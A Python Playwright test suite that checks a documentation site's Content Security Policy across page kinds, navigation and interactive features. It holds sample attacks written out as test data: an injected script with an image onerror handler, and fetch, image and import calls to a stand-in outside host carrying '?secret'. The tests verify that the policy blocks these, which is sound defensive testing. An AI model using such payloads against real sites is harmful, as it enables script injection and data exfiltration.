"""The policy of the pages: what works under it, and what it stops.

A violation is an error on the console, which fails every test; these go where scripts are.
"""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import Watch
from tests.browser.diagrams import draw_all
from tests.browser.kinds import KINDS

pytestmark = pytest.mark.browser

CASE = "cases/visual-search/"
POLICY = "meta[http-equiv=Content-Security-Policy]"
TOGGLE = "label.md-header__button[for^=__palette]:visible"
NOTE_VIOLATIONS = """addEventListener("securitypolicyviolation", event => {
  (window.violations ??= []).push(event.violatedDirective)
})"""
INJECT = """() => {
  const script = document.createElement("script")
  script.textContent = "window.injected = true"
  document.querySelector("article").append(script)
  const box = document.createElement("div")
  box.innerHTML = '<img src="data:," onerror="window.injected = true"><p style="color: red">red</p>'
  document.querySelector("article").append(box)
}"""
STORED = "Object.keys(localStorage).concat(Object.keys(sessionStorage))"


@pytest.fixture(autouse=True)
def _noting(context: BrowserContext) -> None:
    context.add_init_script(NOTE_VIOLATIONS)


def policies(page: Page) -> list[str]:
    """Return the policies of a page."""
    found: list[str] = page.locator(POLICY).evaluate_all("all => all.map(meta => meta.content)")
    return found


def excuse_violations(watch: Watch) -> None:
    """Forget complaints about the policy, and the requests that it stopped."""
    expected = ("Content Security Policy", "request to https://example.org")
    watch.seen = [said for said in watch.seen if not any(part in said for part in expected)]


def test_every_kind_of_page_has_the_same_policy(page: Page, home: str, watch: Watch) -> None:
    """Instant navigation goes on under the first page's, so another page may not need another."""
    watch.excused.add(f"{home}gone/")
    found = set()
    for address in (*KINDS, "progress/", "cases/matrix/", "cases/compare/"):
        page.goto(address, wait_until="networkidle")
        (policy,) = policies(page)
        found.add(policy)
        assert page.evaluate("window.violations ?? []") == [], address
        assert page.context.cookies() == []
        assert page.evaluate(STORED) == [], address
    (policy,) = found
    assert "unsafe" not in policy
    assert "http" not in policy


def test_the_policy_stays_over_instant_navigation(page: Page) -> None:
    """A page that a click brings works as one that was opened."""
    page.goto("", wait_until="networkidle")
    (policy,) = policies(page)
    page.evaluate("window.marked = true")
    page.get_by_role("navigation", name="Tabs").get_by_role(
        "link", name="Cases", exact=True
    ).click()
    page.locator("article").get_by_role("link", name="Visual search").first.click()
    expect(page.locator("main h1")).to_contain_text("Visual search")
    page.get_by_label("Try it first").check()
    expect(page.locator(".casebook-solution").first).to_be_hidden()
    assert page.evaluate("window.marked")
    assert policies(page) == [policy]
    assert page.evaluate("window.violations ?? []") == []


def test_what_runs_on_a_case_runs_under_the_policy(page: Page) -> None:
    """The search's worker, the palette, the estimate, the viewer and a file to save."""
    page.goto(CASE, wait_until="networkidle")
    page.locator(TOGGLE).click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    page.get_by_role("button", name=re.compile("^Enlarge")).first.click()
    page.get_by_role("button", name="Zoom in").click()
    page.keyboard.press("Escape")
    page.get_by_text(re.compile(r"^\d+ assumptions, each with its reason")).click()
    page.locator(".casebook-figures input").first.fill("12")
    page.get_by_label("Try it first").check()
    with page.expect_download():
        page.get_by_role("button", name="Save my notes").click()
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("calibration")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    assert page.evaluate("window.violations ?? []") == []


def test_an_injected_script_does_not_run(page: Page, watch: Watch) -> None:
    """Neither a script, nor a handler, nor a style, wherever it came from."""
    page.goto(CASE)
    page.evaluate(INJECT)
    page.wait_for_function("() => window.violations?.length >= 3")
    assert page.evaluate("window.injected ?? false") is False
    stopped = {"script-src-elem", "script-src-attr", "style-src-attr"}
    assert set(page.evaluate("window.violations")) == stopped
    excuse_violations(watch)


def test_another_host_is_not_asked(page: Page, watch: Watch) -> None:
    """A script that is allowed still can send nothing elsewhere, nor load anything from there."""
    page.goto("how-to-use/")
    page.evaluate("fetch('https://example.org/?secret').catch(() => {})")
    page.evaluate(
        "document.body.append(Object.assign(new Image(), {src: 'https://example.org/x'}))"
    )
    page.evaluate("import('https://example.org/x.mjs').catch(() => {})")
    page.wait_for_function("() => window.violations?.length >= 3")
    assert set(page.evaluate("window.violations")) == {"connect-src", "img-src", "script-src-elem"}
    excuse_violations(watch)


def test_mermaid_draws_under_a_policy_for_its_styles(page: Page, client_home: str) -> None:
    """Where the browser draws, styles may stand in a page, and scripts still may not."""
    page.goto(f"{client_home}how-to-use/")
    draw_all(page)
    expect(page.locator(".mermaid[data-diagram=drawn] > svg").first).to_be_visible()
    (policy,) = policies(page)
    assert "style-src 'self' 'unsafe-inline';" in policy
    assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0]
    assert page.evaluate("window.violations ?? []") == []
